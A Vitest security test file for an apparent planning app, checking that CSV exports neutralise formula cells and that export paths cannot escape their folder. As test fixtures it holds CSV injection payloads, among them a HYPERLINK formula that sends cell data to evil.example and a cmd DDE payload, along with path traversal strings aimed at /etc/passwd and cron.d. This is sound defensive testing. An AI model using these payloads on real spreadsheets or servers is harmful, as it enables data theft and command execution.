import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ContractError } from '../../core/contract/errors';
import { createHost, type Host } from '../../core/host/create-host';
import { payloadPath } from '../../core/host/safe-path';
import { parseCsv } from '../../core/csv/read';
import { tempDir } from '../helpers/tmp';

/**
 * Files leaving the app: exported CSV never carries a cell a spreadsheet would run as a formula
 * (CSV injection), export file names cannot climb out of the folder the planner picks, and a
 * path in a window's payload cannot make the host write outside the data directory.
 */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];
const FORMULA_START = /^[=+\-@\t\r]/;

let tmp: ReturnType<typeof tempDir>;
let host: Host;
let scenarioId: string;

beforeAll(async () => {
  tmp = tempDir('rakeplan-sec-');
  host = createHost({ dataDir: tmp.dir, mode: 'test' });
  const sc = await host.app.invoke('scenarios.create', { template: 'day', seed: 12, name: '../../etc/passwd' });
  scenarioId = sc.id;
  const got = await host.app.invoke('scenarios.get', { id: scenarioId });
  const changes = FORMULAS.map((f, i) => ({
    op: 'update' as const,
    rid: got.rowIds.orders[i]!,
    values: { customer: f, id: `${f.replace(/[\t\r]/g, '').slice(0, 40)}#${i}` },
  }));
  await host.app.invoke('scenarios.editRows', { id: scenarioId, table: 'orders', changes });
});
afterAll(() => {
  host.close();
  tmp.cleanup();
});

/** Every text cell of a CSV as a spreadsheet would see it (quotes removed, nothing else undone). */
function rawCells(csv: string): string[] {
  const out: string[] = [];
  for (const line of csv.replace(/^\uFEFF/, '').split(/\r\n/)) {
    let cell = '';
    let quoted = false;
    for (let i = 0; i <= line.length; i++) {
      const ch = line[i];
      if (quoted) {
        if (ch === '"' && line[i + 1] === '"') {
          cell += '"';
          i++;
        } else if (ch === '"') quoted = false;
        else cell += ch ?? '';
      } else if (ch === '"' && cell === '') quoted = true;
      else if (ch === ',' || ch === undefined) {
        out.push(cell);
        cell = '';
      } else cell += ch;
    }
  }
  return out;
}

function dangerous(csv: string): string[] {
  // Numbers are safe: a negative number is a value, not a formula.
  return rawCells(csv).filter((c) => FORMULA_START.test(c) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(c));
}

describe('CSV injection', () => {
  it('scenarios.export neutralises formula cells, per table and whole scenario, and re-imports them unchanged', async () => {
    for (const payload of [{ table: 'orders' as const }, {}]) {
      const exp = await host.app.invoke('scenarios.export', { id: scenarioId, format: 'csv', ...payload });
      const csv = Buffer.from(exp.dataBase64, 'base64').toString('utf8');
      expect(csv).toContain('HYPERLINK');
      expect(dangerous(csv)).toEqual([]);
    }
    const exp = await host.app.invoke('scenarios.export', { id: scenarioId, format: 'csv', table: 'orders' });
    const back = parseCsv(Buffer.from(exp.dataBase64, 'base64').toString('utf8'));
    const customers = back.slice(1).map((r) => r[1]);
    // Names are stored trimmed (a leading tab or CR goes), otherwise exactly as typed.
    for (const f of FORMULAS) expect(customers).toContain(f.trim());
  });

  it('plans.export CSV neutralises formula cells in every table', async () => {
    const solved = await host.app.invoke('plans.solve', {
      scenarioId,
      ruleBasedOnly: true,
      timeLimitS: 5,
      name: '=HYPERLINK("x")',
    });
    let seenFormulaText = false;
    for (const table of ['rakes', 'road', 'unserved', 'summary', 'production'] as const) {
      const exp = await host.app.invoke('plans.export', { id: solved.id, format: 'csv', table });
      const csv = Buffer.from(exp.base64, 'base64').toString('utf8');
      if (/HYPERLINK|cmd\||SUM\(/.test(csv)) seenFormulaText = true;
      expect(dangerous(csv), `plans.export ${table}`).toEqual([]);
      expect(exp.fileName).not.toMatch(/[/\\]|^\./);
    }
    // The orders with formula ids/customers appear somewhere in the plan's tables.
    expect(seenFormulaText).toBe(true);
  }, 120_000);
});

describe('paths', () => {
  it('export file names carry no path: a scenario named ../../etc/passwd exports as a plain name', async () => {
    for (const format of ['csv', 'xlsx', 'json'] as const) {
      const exp = await host.app.invoke('scenarios.export', { id: scenarioId, format });
      expect(exp.fileName).not.toMatch(/[/\\]|\.\./);
      expect(exp.fileName).not.toMatch(/^\./);
    }
  });

  it('a window cannot make the host write outside <dataDir>/exports', () => {
    const win = { mode: 'browser' as const, dataDir: tmp.dir };
    const root = fs.realpathSync(tmp.dir);
    expect(payloadPath(win, 'scores.csv', 'exports', 'outCsv')).toBe(path.join(root, 'exports', 'scores.csv'));
    expect(payloadPath(win, 'month/scores.csv', 'exports', 'outCsv')).toBe(
      path.join(root, 'exports', 'month', 'scores.csv'),
    );
    const outside = [
      '../rakeplan.db',
      '../../../../etc/cron.d/x',
      '/etc/passwd',
      path.join(tmp.dir, 'rakeplan.db'),
      'a/../../x.csv',
      '.',
    ];
    fs.mkdirSync(path.join(tmp.dir, 'exports'), { recursive: true });
    fs.symlinkSync('/tmp', path.join(tmp.dir, 'exports', 'escape'));
    outside.push('escape/evil.csv');
    for (const p of outside) {
      let err: unknown = null;
      try {
        payloadPath(win, p, 'exports', 'outCsv');
      } catch (e) {
        err = e;
      }
      expect(err, p).toBeInstanceOf(ContractError);
      expect((err as ContractError).code).toBe('BAD_PAYLOAD');
      expect((err as ContractError).message).toMatch(/must name a file inside the data folder's exports folder/);
      // The refusal echoes the path sent, never where the data folder is.
      expect(JSON.stringify((err as ContractError).toData()).replaceAll(p, '')).not.toContain(root);
    }
    // From the CLI the planner chose the path themselves.
    expect(payloadPath({ mode: 'cli', dataDir: tmp.dir }, '/tmp/x.csv', 'exports', 'outCsv')).toBe('/tmp/x.csv');
  });
});
